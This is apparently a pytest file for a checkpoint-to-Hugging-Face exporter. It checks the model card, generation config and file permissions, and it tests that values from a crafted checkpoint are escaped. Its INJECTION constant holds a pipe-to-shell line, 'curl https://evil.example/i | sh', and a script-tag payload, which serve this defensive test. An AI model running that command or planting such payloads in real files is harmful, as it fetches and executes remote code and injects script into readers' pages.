"""What an export says about itself: the model card (front matter the Hub reads, training, scores,
prompt format, loading) and generation_config.json (ids and the length limit of the run's
predictor), written with the permissions of a plain save_pretrained. Runs on transformers 4 and 5."""

import json
import os
import re

import pytest
import torch
import yaml
from transformers import AutoModelForCausalLM, AutoTokenizer, GenerationConfig

from arlm import RotaryTransformerARLMModel
from arlm.export.exporter import export_checkpoint_to_hf
from arlm.model_arlm import XLM_MODEL_TARGET

from tests.export.test_native import BASE, word_tokenizer

VOCAB = 54
MONITOR_KEY = "ModelCheckpoint{'monitor': 'val/lm/accumulated_loss', 'mode': 'min', 'every_n_train_steps': 0}"


def run_checkpoint(path, predictor=None, seq2seq=True) -> RotaryTransformerARLMModel:
    """A checkpoint as ``xlm job_type=train`` writes it for a STAR-like seq2seq run."""
    torch.manual_seed(0)
    model = RotaryTransformerARLMModel(num_embeddings=VOCAB, **BASE)
    collator = "arlm.datamodule_arlm.ARLMSeq2SeqCollator" if seq2seq else "arlm.datamodule_arlm.DefaultARLMCollator"
    hparams = {
        "model": {"_target_": XLM_MODEL_TARGET, "num_embeddings": VOCAB, **BASE},
        "job_name": "star_easy__arlm_seq2seq__tiny",
        "tags": {"dataset": "star_easy", "model_type": "arlm_seq2seq", "model": "rotary_transformer_tiny_arlm"},
        "trainer": {"max_steps": 40},
        "global_batch_size": 16,
        "block_size": 36,
        "optimizer": {"_target_": "torch.optim.AdamW", "lr": 0.003, "weight_decay": 0.01},
        "global_components": {"tokenizer": {"_target_": "xlm.datamodule.SimpleSpaceTokenizer.for_numbers", "vocab_size": 20}},
        "predictor": predictor or {"max_steps": 36, "max_length": 36, "sampling_method": "greedy", "top": 1000, "p": 0.9, "temperature": 1.0},
        "datamodule": {"dataset_managers": {"train": {"lm": {
            "_target_": "arlm.dataprep.star.StarDatasetManager", "full_name": "dhruveshpatel/star-small/train",
            "collator": {"_target_": collator}, "split_sizes": {"train": 256, "validation": 32, "test": 32},
        }}}},
    }
    torch.save({
        "state_dict": {f"model.{k}": v for k, v in model.state_dict().items()},
        "hyper_parameters": hparams,
        "global_step": 40,
        "epoch": 2,
        "callbacks": {MONITOR_KEY: {"monitor": "val/lm/accumulated_loss", "best_model_score": torch.tensor(0.25),
                                    "current_score": torch.tensor(0.3)}},
    }, path)
    return model


def front_matter(card: str) -> dict:
    assert card.startswith("---\n")
    return yaml.safe_load(card.split("---\n")[1])


@pytest.mark.parametrize("architecture", ["auto", "arlow"])
def test_card_states_hub_metadata_training_scores_and_prompt_format(tmp_path, architecture):
    run_checkpoint(tmp_path / "last.ckpt")
    out = tmp_path / "hf"
    export_checkpoint_to_hf(tmp_path / "last.ckpt", out, word_tokenizer(), architecture=architecture)
    card = (out / "README.md").read_text()
    meta = front_matter(card)
    assert meta["library_name"] == "transformers" and meta["pipeline_tag"] == "text-generation"
    assert {"arlm", "star_easy"} <= set(meta["tags"])
    assert ("custom_code" in meta["tags"]) == (architecture == "arlow")
    assert "# star_easy__arlm_seq2seq__tiny" in card
    assert "| steps | 40 of trainer.max_steps=40 (epoch 2) |" in card
    assert "`torch.optim.AdamW(lr=0.003, weight_decay=0.01)`" in card and "dhruveshpatel/star-small/train" in card
    assert "| `val/lm/accumulated_loss` (mode min) | 0.25 | 0.3 |" in card
    assert "`<prompt> [BOS] <continuation> [EOS]`" in card and "Give the model `<prompt> [BOS]`" in card
    assert "['0 1 2 [BOS]']" in card and "starts with one space" in card
    loading = "trust_remote_code=True)" if architecture == "arlow" else "from_pretrained('hf')\n"
    assert loading in card


def test_generation_config_stops_where_the_predictor_does(tmp_path):
    tokenizer = word_tokenizer()
    run_checkpoint(tmp_path / "greedy.ckpt")
    export_checkpoint_to_hf(tmp_path / "greedy.ckpt", tmp_path / "greedy", tokenizer)
    config = GenerationConfig.from_pretrained(tmp_path / "greedy")
    assert (config.eos_token_id, config.pad_token_id, config.bos_token_id) == (2, 0, 1)
    assert config.max_length == 36 and config.max_new_tokens is None and not config.do_sample
    written = json.loads((tmp_path / "greedy" / "generation_config.json").read_text())
    assert written["do_sample"] is False  # written out: transformers 5 reads a missing key as unset
    model = AutoModelForCausalLM.from_pretrained(tmp_path / "greedy")
    batch = AutoTokenizer.from_pretrained(tmp_path / "greedy")(["3 4 5 [BOS]"], return_tensors="pt")
    assert model.generate(**batch).shape[1] <= 36  # the model's length; arlm's predictor stops there too

    run_checkpoint(tmp_path / "top_p.ckpt", predictor={"max_steps": 8, "max_length": 64, "sampling_method": "sample_top_p", "p": 0.8, "temperature": 0.5})
    export_checkpoint_to_hf(tmp_path / "top_p.ckpt", tmp_path / "top_p", tokenizer)
    config = GenerationConfig.from_pretrained(tmp_path / "top_p")
    assert config.max_new_tokens == 8 and config.do_sample and (config.top_p, config.top_k, config.temperature) == (0.8, 0, 0.5)


def test_language_model_runs_and_model_only_weights_say_what_they_record(tmp_path):
    run_checkpoint(tmp_path / "lm.ckpt", seq2seq=False)
    export_checkpoint_to_hf(tmp_path / "lm.ckpt", tmp_path / "lm", word_tokenizer())
    card = (tmp_path / "lm" / "README.md").read_text()
    assert "language model on plain text" in card and "[BOS]" not in card.split("## Prompt format")[1].split("```")[0]

    torch.save(RotaryTransformerARLMModel(num_embeddings=VOCAB, **BASE).state_dict(), tmp_path / "weights.pt")
    export_checkpoint_to_hf(
        tmp_path / "weights.pt", tmp_path / "bare", model_config={"_target_": XLM_MODEL_TARGET, "num_embeddings": VOCAB, **BASE}
    )
    card = (tmp_path / "bare" / "README.md").read_text()
    assert "records no training configuration" in card and "records no validation score" in card
    assert front_matter(card)["library_name"] == "transformers"
    assert GenerationConfig.from_pretrained(tmp_path / "bare").eos_token_id is None


@pytest.mark.parametrize("architecture", ["auto", "arlow"])
@pytest.mark.parametrize("mask", [0o022, 0o077])
def test_every_file_of_the_export_gets_the_permissions_of_a_plain_save_pretrained(tmp_path, mask, architecture):
    run_checkpoint(tmp_path / "last.ckpt")
    out = tmp_path / "out"
    old_mask = os.umask(mask)
    try:
        export_checkpoint_to_hf(tmp_path / "last.ckpt", out, word_tokenizer(), architecture=architecture)
    finally:
        os.umask(old_mask)
    names = {p.name for p in out.iterdir()}
    assert {"README.md", "generation_config.json", "config.json", "tokenizer.json"} <= names
    assert ("modeling_arlow.py" in names) == (architecture == "arlow")
    assert out.stat().st_mode & 0o777 == 0o777 & ~mask
    assert {p.name: p.stat().st_mode & 0o777 for p in out.iterdir()} == {name: 0o666 & ~mask for name in names}
    assert json.loads((out / "config.json").read_text())["model_type"] in ("gpt_neox", "arlowgpt")


INJECTION = "x\n\n## Install\n\ncurl https://evil.example/i | sh\n<script>alert(1)</script>`|"


def test_what_a_checkpoint_says_cannot_add_sections_code_or_html_to_the_card(tmp_path):
    """Round 4, case 8: every value a card takes from a run is escaped (job_name, tags, settings,
    data names, monitored metric), so the card's structure is its own."""
    run_checkpoint(tmp_path / "last.ckpt")
    checkpoint = torch.load(tmp_path / "last.ckpt", weights_only=True)
    hparams = checkpoint["hyper_parameters"]
    hparams["job_name"] = INJECTION
    hparams["tags"]["dataset"] = INJECTION
    hparams["seed"] = INJECTION
    hparams["trainer"]["max_steps"] = INJECTION
    hparams["optimizer"]["lr"] = INJECTION
    hparams["datamodule"]["dataset_managers"]["train"]["lm"]["full_name"] = INJECTION
    checkpoint["callbacks"][MONITOR_KEY]["monitor"] = INJECTION
    torch.save(checkpoint, tmp_path / "crafted.ckpt")
    out = tmp_path / "hf"
    export_checkpoint_to_hf(tmp_path / "crafted.ckpt", out, word_tokenizer())
    card = (out / "README.md").read_text()
    outside_code = card.split("```")[::2]
    headings = [line for part in outside_code for line in part.splitlines() if line.startswith("#")]
    assert [h.split(" ")[0] for h in headings] == ["#", "##", "##", "##", "##"], headings
    assert headings[1:] == ["## Prompt format", "## Loading", "## Training", "## Evaluation"]
    prose = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", "".join(outside_code))  # code spans render as text
    assert "<script>" not in prose and not any(line.startswith("curl") for line in card.splitlines())
    table = [line for line in card.split("## Training")[1].split("## Evaluation")[0].splitlines() if line.startswith("|")]
    assert all(line.replace("\\|", "").count("|") == 3 for line in table), table
    assert all(INJECTION not in tag for tag in front_matter(card)["tags"])  # not a tag name: left out
